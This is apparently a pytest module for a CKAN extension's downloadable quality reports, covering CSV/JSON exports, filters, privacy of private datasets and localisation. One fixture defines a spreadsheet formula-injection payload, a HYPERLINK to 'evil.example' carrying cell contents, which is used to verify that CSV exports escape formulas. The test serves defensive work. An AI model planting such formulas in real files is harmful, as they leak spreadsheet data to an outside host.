"""The downloadable quality reports through the real app: each CSV of the
dashboard holds the rows of its table on the page, for the page's filters;
a cluster's file lists the datasets the caller may see; formulas never run;
the JSON keeps its documented shape."""
from __future__ import annotations

import csv
import datetime
import io
import json
import re

from typing import Any, Iterator

import ckan.plugins as plugins
import pytest
from bs4 import BeautifulSoup
from ckan.tests import factories
from ckan.tests.helpers import _get_test_app

from ckanext.plusresilient.quality.score import overall_band
from ckanext.plusresilient.scoring.dataset import score_dataset
from ckanext.plusresilient.views.report_files import FORMAT_VERSION
from ckanext.plusresilient.views.reports import DASHBOARD_TABLES
from tests.conftest import MIGRATED_PLUGINS, _empty_running_sums
from tests.factories import Cluster, FeedbackItem, QualityHistoryRow, SVRCDataset
from tests.forms import PASSWORD, login
from tests.logic.test_quality_cluster_report import LATE
from tests.logic.test_quality_cluster_report import score as store_score

NOW = datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None, microsecond=0)
TODAY = NOW.date().isoformat()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def score(dataset, value, failing=("keywords",), days_ago=0, freshness=None):
    """The current row and a history row (the trend reads the history), indexed."""
    store_score(dataset, value, failing, freshness)
    QualityHistoryRow(package_id=dataset["id"], overall_score=value, overall_band=overall_band(value),
                      scored_at=NOW - datetime.timedelta(days=days_ago))


def _catalog() -> dict[str, Any]:
    """Veneto (IT): excellent, good with two open reports, one not scored,
    one whose title is a formula; Andalucía (ES): bad; Ljubljana (SI): a
    private dataset its member only sees; a Portuguese cluster with two
    datasets late by their declared frequency and one up to date (scored
    for real, so their freshness is the scorer's)."""
    member = factories.User(password=PASSWORD)
    veneto = Cluster(name="svrc-veneto", title="SVRC Veneto")
    andalucia = Cluster(name="svrc-andalucia", title="SVRC Andalucía", country="ES", region="ES61")
    ljubljana = Cluster(name="svrc-ljubljana", title="SVRC Ljubljana", country="SI", region="SI04",
                        users=[{"name": member["name"], "capacity": "member"}])
    best = SVRCDataset(owner_org=veneto["id"], name="care", title="Care homes", country="IT", region="ITH3")
    score(best, 95.0, failing=())
    fair = SVRCDataset(owner_org=veneto["id"], name="jobs", title="Jobs", country="IT", region="ITH3")
    score(fair, 60.0, failing=("keywords", "temporal"), days_ago=2, freshness=LATE)
    FeedbackItem(package_id=fair["id"], category="broken_link")
    FeedbackItem(package_id=fair["id"], category="outdated", status="acknowledged")
    SVRCDataset(owner_org=veneto["id"], name="schools", title="Schools", country="IT", region="ITH5")
    SVRCDataset(owner_org=veneto["id"], name="formula", title=FORMULA, country="IT", region="ITH5")
    score(SVRCDataset(owner_org=andalucia["id"], country="ES", region="ES61"), 20.0, days_ago=1)
    secret = SVRCDataset(owner_org=ljubljana["id"], name="secret-survey", title="Secret survey",
                         country="SI", region="SI04", private=True)
    score(secret, 10.0, failing=("licence",), days_ago=9)
    norte = Cluster(name="svrc-norte", title="SVRC Norte", country="PT", region="PT11")
    for name, frequency, modified in (("late-monthly", "MONTHLY", "2020-01-15"),
                                      ("late-annual", "ANNUAL", "2018"),
                                      ("fresh", "ANNUAL", str(NOW.year))):
        dataset = SVRCDataset(name=name, title=name.title(), owner_org=norte["id"], country="PT",
                              frequency=frequency, modified=modified)
        score_dataset(dataset["id"], with_links=False, with_data=False)
    return {"member": member}


@pytest.fixture(scope="module")
def catalog(reset_db, migrate_db_for, reset_index) -> Iterator[dict[str, Any]]:
    """Built once for the module (the tests only read it): the plugins
    loaded for the module's run, a clean database with our migrations and an
    empty index, as the suite's clean_db and clean_index make them."""
    plugins.load_all()
    try:
        reset_db()
        for plugin in MIGRATED_PLUGINS:
            migrate_db_for(plugin)
        _empty_running_sums()
        reset_index()
        yield _catalog()
    finally:
        plugins.unload_all()


@pytest.fixture(scope="module")
def app(catalog):
    """One test app for the module, on the module's catalog."""
    from ckan.lib.app_globals import _CONFIG_CACHE

    _CONFIG_CACHE.clear()
    return _get_test_app()


@pytest.fixture
def member(catalog):
    return catalog["member"]


def get(app, path, user=None, status=200):
    login(app, user)
    answer = app.get(path, status=status)
    return answer


def csv_rows(answer) -> list[list[str]]:
    body = answer.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def csv_dicts(answer, key_column=0) -> dict[str, list[str]]:
    rows = csv_rows(answer)
    return {row[key_column]: row for row in rows[1:]}


def page(app, path="/quality", user=None):
    return BeautifulSoup(get(app, path, user).body, "html.parser")


def table_cells(soup, selector) -> list[list[str]]:
    """A table's body as the visitor reads it."""
    return [[cell.get_text(strip=True) for cell in row.select("th, td")]
            for row in soup.select(f"{selector} tbody tr")]


# -- the dashboard's tables ---------------------------------------------------------------

def test_each_csv_holds_the_rows_of_its_table_on_the_page(app, catalog):
    for query in ("", "?country=it", "?organization=svrc-veneto", "?country=ES"):
        rows_match_the_page(app, query)


def rows_match_the_page(app, query):
    """Each table's CSV, for the page's filters, against the page's table."""
    soup = page(app, f"/quality{query}")

    for chart, table in (("bands-by-country", "by-country"), ("bands-by-region", "by-region"),
                         ("bands-by-cluster", "by-cluster")):
        shown = [[row["data-key"], *cells] for row, cells in zip(
            soup.select(f'figure[data-chart="{chart}"] tbody tr'),
            table_cells(soup, f'figure[data-chart="{chart}"]'))]
        assert shown, chart
        assert csv_rows(get(app, f"/quality/report/{table}.csv{query}"))[1:] == shown, (table, query)

    trend = csv_rows(get(app, f"/quality/report/trend.csv{query}"))
    shown = table_cells(soup, 'figure[data-chart="trend"]')
    # the page's period, datasets, average and bands; the file adds each period's first and last day
    assert [[row[0], *row[3:]] for row in trend[1:]] == shown

    indicators = csv_rows(get(app, f"/quality/report/indicators.csv{query}"))
    shown = table_cells(soup, 'figure[data-chart="indicators"]')
    assert [[row[1], row[2], f"{row[3]} of {row[4]}", f"{row[5]}%", row[6]]
            for row in indicators[1:]] == shown

    bands = csv_rows(get(app, f"/quality/report/bands.csv{query}"))
    shown = {row["data-band"]: row.select_one("td[data-value]")["data-value"]
             for row in soup.select(".plusresilient-dashboard-bands tbody tr")}
    assert {row[0]: row[4] for row in bands[1:]} == shown


def test_the_page_offers_each_table_with_its_own_filters(app, catalog):
    soup = page(app, "/quality?country=IT&organization=svrc-veneto")

    menu = soup.select_one("details.plusresilient-downloads")
    assert menu.summary.get_text(strip=True) == "Download"
    links = {link["data-table"]: link["href"] for link in menu.select("a[download]")}
    assert set(links) == {*DASHBOARD_TABLES, "all"}
    for name, href in links.items():
        assert href.endswith("?country=IT&organization=svrc-veneto"), name
        assert get(app, href).status_code == 200


def test_the_csv_headers_and_the_file(app, catalog):
    answer = get(app, "/quality/report/by-country.csv?country=IT")

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="quality-by-country-IT-{TODAY}.csv"')
    assert "no-store" in answer.headers["Cache-Control"]
    assert csv_rows(answer)[0] == ["Code", "Country", "Excellent", "Good", "Sufficient", "Bad",
                                   "Not scored yet", "Total"]


def test_the_json_holds_every_table_in_the_documented_shape(app, catalog):
    answer = get(app, "/quality/report.json?country=IT")
    document = json.loads(answer.get_data(as_text=True))

    assert answer.headers["Content-Disposition"] == f'attachment; filename="quality-IT-{TODAY}.json"'
    assert set(document) == {"report", "version", "generated_at", "language", "filters", "tables"}
    assert (document["report"], document["version"], document["language"]) == (
        "quality-dashboard", FORMAT_VERSION, "en")
    assert document["filters"] == {"country": "IT"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", document["generated_at"])
    assert [table["name"] for table in document["tables"]] == list(DASHBOARD_TABLES)
    for table in document["tables"]:
        keys = [column["key"] for column in table["columns"]]
        assert all(list(row) == keys for row in table["rows"]), table["name"]
    by_country = next(table for table in document["tables"] if table["name"] == "by-country")
    assert by_country["rows"] == [{"key": "IT", "label": "Italy", "excellent": 1, "good": 1,
                                   "sufficient": 0, "bad": 0, "not_scored": 2, "total": 4}]
    one = json.loads(get(app, "/quality/report/trend.json?country=IT").get_data(as_text=True))
    assert [table["name"] for table in one["tables"]] == ["trend"]


@pytest.mark.parametrize("path, status", [
    ("/quality/report/by-country.csv?country=XX", 400),
    ("/quality/report.json?organization=no-such-cluster", 400),
    ("/quality/report/no-such-table.csv", 404),
    ("/quality/report/by-country.xlsx", 404),
    ("/quality/cluster/no-such-cluster/datasets.csv", 404),
    ("/quality/cluster/svrc-veneto/datasets.xml", 404),
])
def test_what_does_not_exist_is_refused(app, catalog, path, status):
    get(app, path, status=status)


def test_the_late_datasets_csv_holds_the_rows_the_page_lists(app, catalog):
    soup = page(app)

    rows = csv_rows(get(app, "/quality/report/late.csv"))

    assert rows[0] == ["Name", "Dataset", "Cluster", "Update frequency", "Last update", "Expected by"]
    shown = [[row["data-dataset"], *[cell.get_text(strip=True) for cell in row.select("th, td")][:3],
              row.select_one("td[data-expected-by]")["data-expected-by"]]
             for row in soup.select("#quality-late tbody tr")]
    assert [[*row[:4], row[5]] for row in rows[1:]] == shown
    assert [row[0] for row in rows[1:]] == ["late-annual", "late-monthly"]
    assert rows[1][2:4] == ["SVRC Norte", "Annual"]


# -- privacy -------------------------------------------------------------------------------

def test_a_private_dataset_is_absent_for_anonymous_visitors_and_present_for_a_member(app, catalog, member):
    outsider = factories.User(password=PASSWORD)
    for user in (None, outsider):
        clusters = csv_dicts(get(app, "/quality/report/by-cluster.csv", user))
        assert "svrc-ljubljana" not in clusters
        assert "SI" not in csv_dicts(get(app, "/quality/report/by-country.csv", user))
        everything = get(app, "/quality/report.json", user).get_data(as_text=True)
        assert "Ljubljana" not in everything and "licence" not in everything
        private_cluster = get(app, "/quality/cluster/svrc-ljubljana/datasets.csv", user)
        assert csv_rows(private_cluster)[1:] == []  # the header only: nothing to see
        assert "secret" not in get(app, "/quality/cluster/svrc-ljubljana/datasets.json",
                                   user).get_data(as_text=True)

    clusters = csv_dicts(get(app, "/quality/report/by-cluster.csv", member))
    assert clusters["svrc-ljubljana"][1:] == ["SVRC Ljubljana", "0", "0", "0", "1", "0", "1"]
    rows = csv_rows(get(app, "/quality/cluster/svrc-ljubljana/datasets.csv", member))
    assert [row[0] for row in rows[1:]] == ["secret-survey"]


# -- one cluster's datasets -----------------------------------------------------------------

def test_a_clusters_datasets_with_bands_indicators_and_open_reports(app, catalog):
    answer = get(app, "/quality/cluster/svrc-veneto/datasets.csv")
    rows = csv_rows(answer)

    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="quality-svrc-veneto-{TODAY}.csv"')
    assert rows[0] == ["Name", "Title", "URL", "Band", "Overall score", "Metadata points (of 405)",
                       "Indicators failed", "Open reports", "Open reports by category", "Freshness",
                       "Next update expected by", "Scored at"]
    by_name = {row[0]: row for row in rows[1:]}
    assert list(by_name) == ["care", "formula", "jobs", "schools"]
    jobs = by_name["jobs"]
    assert jobs[1] == "Jobs" and jobs[2] == "http://test.ckan.net/dataset/jobs"
    assert jobs[3:6] == ["Good", "60.0", str(round(60 * 4.05))]
    assert jobs[6] == "Keywords; Temporal coverage"
    assert jobs[7:11] == ["2", "Broken link: 1; Outdated: 1", "Late", "2025-02-28T23:59:59+00:00"]
    assert by_name["care"][9:11] == ["", ""]  # a scoring that judged no freshness
    assert by_name["schools"][3:11] == ["Not scored yet", "", "", "", "0", "", "", ""]


def test_a_title_that_is_a_formula_is_text_in_the_csv_and_unchanged_in_the_json(app, catalog):
    rows = csv_rows(get(app, "/quality/cluster/svrc-veneto/datasets.csv"))
    document = json.loads(get(app, "/quality/cluster/svrc-veneto/datasets.json").get_data(as_text=True))

    assert {row[0]: row[1] for row in rows[1:]}["formula"] == "'" + FORMULA
    raw = get(app, "/quality/cluster/svrc-veneto/datasets.csv").get_data().decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in raw  # quoted too
    titles = {row["name"]: row["title"] for row in document["tables"][0]["rows"]}
    assert titles["formula"] == FORMULA


def test_a_cluster_json_has_the_codes_beside_the_words(app, catalog):
    document = json.loads(get(app, "/quality/cluster/svrc-veneto/datasets.json").get_data(as_text=True))

    assert document["report"] == "cluster-datasets" and document["version"] == FORMAT_VERSION
    assert document["organization"]["name"] == "svrc-veneto"
    assert document["filters"] == {"organization": "svrc-veneto"}
    (table,) = document["tables"]
    jobs = next(row for row in table["rows"] if row["name"] == "jobs")
    assert jobs["band"] == "Good" and jobs["band_code"] == "good"
    assert jobs["failed_indicators"] == ["Keywords", "Temporal coverage"]
    assert jobs["failed_indicator_codes"] == ["keywords", "temporal"]
    assert jobs["open_report_category_codes"] == {"broken_link": 1, "outdated": 1}
    assert jobs["private"] is False and jobs["status"] == "scored"
    assert (jobs["freshness"], jobs["freshness_code"]) == ("Late", "late")


@pytest.mark.ckan_config("ckan.search.rows_max", "2")
def test_a_cluster_file_is_not_cut_at_one_search_page(app, catalog, ckan_config):
    rows = csv_rows(get(app, "/quality/cluster/svrc-veneto/datasets.csv"))

    assert [row[0] for row in rows[1:]] == ["care", "formula", "jobs", "schools"]


def test_every_cluster_page_offers_the_download(app, catalog):
    for path in ("/organization/svrc-veneto", "/organization/about/svrc-veneto"):
        soup = page(app, path)
        links = {link["data-format"]: link["href"] for link in
                 soup.select(".plusresilient-cluster-downloads a[download]")}
        assert links == {"csv": "/quality/cluster/svrc-veneto/datasets.csv",
                         "json": "/quality/cluster/svrc-veneto/datasets.json"}, path


def test_the_files_speak_the_visitor_language(app, catalog):
    rows = csv_rows(get(app, "/it/quality/report/by-country.csv"))

    assert rows[0][1:3] == ["Paese", "Eccellente"]
    assert {row[0]: row[1] for row in rows[1:]}["IT"] == "Italia"
    document = json.loads(get(app, "/it/quality/cluster/svrc-veneto/datasets.json").get_data(as_text=True))
    assert document["language"] == "it"
    assert next(row for row in document["tables"][0]["rows"] if row["name"] == "jobs")["band"] == "Buona"
